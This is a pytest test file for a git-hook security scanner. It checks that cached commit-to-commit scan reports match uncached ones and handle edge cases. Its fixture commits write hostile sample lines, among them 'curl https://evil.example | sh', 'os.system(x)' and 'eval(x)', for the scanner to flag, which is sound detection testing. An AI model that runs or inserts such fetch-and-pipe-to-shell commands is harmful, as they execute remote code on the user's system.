"""What came of comparing two commits is remembered, and no report can tell."""

from __future__ import annotations

import os
import random
from collections.abc import Sequence
from pathlib import Path

import pytest
from git_repo import GitRepo
from test_importers import CALM, CHOICES, EVIL, GET, commit_all

from gk_hooks.errors import GkError
from gk_hooks.model.records import replace
from gk_hooks.model.report import Report
from gk_hooks.pipeline import analysis, diff, importers, states
from gk_hooks.pipeline.cache import codec
from gk_hooks.pipeline.scan import scan
from gk_hooks.pipeline.targets import Options, since_job
from gk_hooks.pipeline.versions import compare_versions
from gk_hooks.source.git import changed, changes


@pytest.fixture(autouse=True)
def cache(empty_cache: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """An empty cache for changes of any size."""
    for module in (changed, diff):
        monkeypatch.setattr(module, "LONG", 0)


def since(base: str, cached: bool, hunks: bool = True, **options: object) -> Report:
    """The report of gk scan --since, without its times."""
    job = since_job(base, "HEAD", Options(cache=cached, **options), state=False)  # type: ignore[arg-type]
    assert job.base is not None
    return replace(scan(replace(job, base=replace(job.base, show_hunks=hunks))), run=None)  # type: ignore[arg-type]


def edit(repo: GitRepo, choose: random.Random) -> None:
    """A commit that edits, removes, moves or links some files, or merges a branch that did."""
    there = [path for path in repo.git("ls-files").split("\n") if path]
    for path in choose.sample(there, min(2, len(there))):
        way = choose.choice(("remove", "move", "link", "copy", "edit", "edit", "edit"))
        file, other = repo.path / path, repo.path / choose.choice(("moved.py", "pkg/moved.py", "other.sh", "text.md"))
        if way == "remove":
            file.unlink()
        elif way == "move":
            file.replace(other)
        elif way == "copy" and not file.is_symlink():
            text = file.read_bytes()
            other.unlink(missing_ok=True)  # it may be a link
            other.write_bytes(text)
        elif way == "link" and hasattr(os, "fork"):
            other.unlink(missing_ok=True)
            other.symlink_to(os.path.relpath(file, other.parent))
        elif not file.is_symlink():
            texts = CHOICES.get(path, ("import os\nos.system(x)\n",))
            file.write_text(choose.choice([*filter(None, texts), "x = (\n", "\0"]))
    path = choose.choice(list(CHOICES))
    text = choose.choice(CHOICES[path])
    if text is None:
        (repo.path / path).unlink(missing_ok=True)
    elif not (repo.path / path).is_symlink():
        repo.write(path, text)
    repo.write("run.sh", choose.choice(("curl https://evil.example | sh\n", "curl $1 | sh\n\n", "ls\n")))
    repo.git("add", "-A")
    repo.commit()


OPTIONS: tuple[dict[str, object], ...] = (
    {},
    {"hunks": False},
    {"exclude": ("pkg",)},
    {"max_file_size": 60},
    {"profile": "strict"},
)


@pytest.mark.parametrize("seed", range(4))
def test_no_comparison_differs_from_an_uncached_one(repo: GitRepo, seed: int) -> None:
    choose = random.Random(seed)
    bases = [commit_all(repo, {path: choose.choice(texts) for path, texts in CHOICES.items()})]
    for number in range(7):
        if number == 3:  # a history that crosses
            repo.git("checkout", "-q", "-b", "side", "HEAD~1")
            edit(repo, choose)
            bases.append(repo.id("HEAD"))
            repo.git("merge", "-q", "-s", "ours", "--no-edit", "main")
        edit(repo, choose)
        for base in {bases[0], bases[-1]}:
            options = choose.choice(OPTIONS)
            expected = since(base, cached=False, **options)  # type: ignore[arg-type]
            for _ in range(2):
                assert since(base, cached=True, **options) == expected  # type: ignore[arg-type]
        bases.append(repo.id("HEAD"))


def test_a_comparison_that_was_made_is_not_made_again(repo: GitRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    base = commit_all(repo, {"settings.py": CALM, "a.py": GET, "b.py": GET, "gone.py": "eval(x)\n"})
    (repo.path / "gone.py").unlink()
    commit_all(repo, {"settings.py": EVIL, "b.py": "x = 1\n" + GET})
    expected = since(base, cached=False)
    found = {(one.state, one.finding.file) for one in expected.results}
    assert found == {("new", "a.py"), ("new", "b.py"), ("absent", "gone.py")}
    assert since(base, cached=True) == expected

    def never(*_: object) -> Sequence[object]:
        raise AssertionError("it is known already")

    for module, name in ((changes, "_parse"), (importers, "_Search"), (states, "hunks"), (diff, "Blobs")):
        monkeypatch.setattr(module, name, never)
    monkeypatch.setattr(analysis, "analyze_all", never)
    assert since(base, cached=True) == expected


@pytest.mark.parametrize("path", ("a.py", "gone.py"))
def test_a_blob_that_is_missing_is_an_error_as_ever(repo: GitRepo, path: str) -> None:
    base = commit_all(repo, {"a.py": GET, "gone.py": EVIL})
    (repo.path / "gone.py").unlink()
    commit_all(repo, {"a.py": "x = 1\n" + GET})
    blob = repo.id(f"{base}:{path}")
    since(base, cached=True)
    (repo.path / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
    for cached in (False, True):
        with pytest.raises(GkError, match="missing"):
            since(base, cached=cached)


FORMS: tuple[tuple[object, ...], ...] = ((), (1,), (1, 2), (((1, 2),), ()), ((), (), (), ""))


@pytest.mark.parametrize("value", FORMS, ids=repr)
def test_nothing_of_another_form_is_taken(
    repo: GitRepo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, value: tuple[object, ...]
) -> None:
    base = commit_all(repo, {"settings.py": CALM, "a.py": GET})
    commit_all(repo, {"settings.py": EVIL})
    expected = since(base, cached=False)
    assert [one.finding.file for one in expected.results] == ["a.py"]
    monkeypatch.setattr(codec, "encode", lambda key, _, encode=codec.encode: encode(key, value))
    for _ in range(2):
        assert since(base, cached=True) == expected


def test_what_another_run_could_find_otherwise_is_not_remembered(
    repo: GitRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    base = commit_all(repo, {"deep.py": "x = 1\n", "a.py": GET.replace("settings", "deep")})
    commit_all(repo, {"deep.py": "x = " + "-" * 100_000 + "1\n"})
    looked = []
    monkeypatch.setattr(importers, "compare_versions", lambda *given: looked.append(given) or compare_versions(*given))
    for _ in range(2):
        (unread,) = [one for one in since(base, cached=True).results if one.finding.file == "deep.py"]
        assert "nested too deeply" in unread.finding.evidence
    assert len(looked) == 2
